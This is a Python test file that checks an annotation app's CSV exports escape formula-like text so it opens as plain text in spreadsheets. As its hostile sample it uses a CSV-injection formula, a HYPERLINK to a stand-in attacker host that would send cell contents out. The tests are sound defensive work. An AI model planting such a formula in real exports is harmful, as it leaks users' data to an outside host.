"""CSV downloads are safe to open in a spreadsheet: text that would run as a formula comes out as text.

Text in Tandem's CSVs comes from people: item ids and model names from the import file, batch names from leads,
usernames. (Justifications are in no CSV.) Each download is read as a lead gets it, from the API links that the
lead pages offer.
"""

import csv
import io

import pytest

from core.csv import rows_to_csv, safe_cell
from rewards.services.snapshots import snapshot_compute
from tests.factories import BatchFactory
from tests.rewards.judging import judge_items

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("a=1", "a=1"),
        ("", ""),
        (-0.25, -0.25),  # a number Tandem writes stays a number: spreadsheets must still add it up
        (-3, -3),
        (None, None),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_header_cells_are_escaped_too():
    text = rows_to_csv([{"=x": "-y"}], fieldnames=["=x"])
    assert list(csv.reader(io.StringIO(text))) == [["'=x"], ["'-y"]]


@pytest.fixture
def hostile(project):
    """A snapshotted batch whose text fields all start like formulas; its first item splits."""
    batch = BatchFactory(project=project, name=FORMULA)
    items = judge_items(
        batch,
        {"=ann": ["a", "a", "b"], "+ann": ["b", "a", "b"], "@ann": ["tie", "a", "b"]},
        response_a_model=FORMULA,
        response_b_model="-2+3",
    )
    items[0].external_id = "@" + FORMULA
    items[0].save(update_fields=["external_id"])
    snapshot_compute(batch=batch)
    return batch


def download(client, url: str) -> list[dict]:
    response = client.get(url)
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_agreement_csv_escapes_the_batch_name(hostile, project, lead_client):
    rows = download(lead_client, f"/api/v1/projects/{project.pk}/agreement/?format=csv")
    assert [r["batch"] for r in rows] == ["'" + FORMULA]


def test_annotators_csv_escapes_usernames_and_batch_names(hostile, project, lead_client):
    rows = download(lead_client, f"/api/v1/projects/{project.pk}/agreement/annotators/?format=csv")
    assert sorted(r["username"] for r in rows) == ["'+ann", "'=ann", "'@ann"]
    assert {r["batch"] for r in rows} == {"'" + FORMULA}
    # Figures stay figures: a negative statistic is written as the number it is.
    numbers = [r[key] for r in rows for key in r if key.endswith("kappa") and r[key]]
    assert all(not n.startswith("'") for n in numbers)


def test_split_items_csv_escapes_item_ids_and_model_names(hostile, project, lead_client):
    rows = download(lead_client, f"/api/v1/projects/{project.pk}/split-items/?format=csv")
    assert [(r["item_id"], r["model_a"], r["model_b"], r["batch"]) for r in rows] == [
        ("'@" + FORMULA, "'" + FORMULA, "'-2+3", "'" + FORMULA)
    ]


def test_the_lead_pages_link_to_the_escaped_downloads(hostile, project, lead, client):
    client.force_login(lead)
    pages = {
        f"/lead/projects/{project.pk}/": ["agreement/?format=csv", "agreement/annotators/?format=csv"],
        f"/lead/projects/{project.pk}/split-items/": ["split-items/?format=csv"],
    }
    for page, links in pages.items():
        response = client.get(page)
        assert response.status_code == 200
        for link in links:
            assert f"/api/v1/projects/{project.pk}/{link}" in response.content.decode()
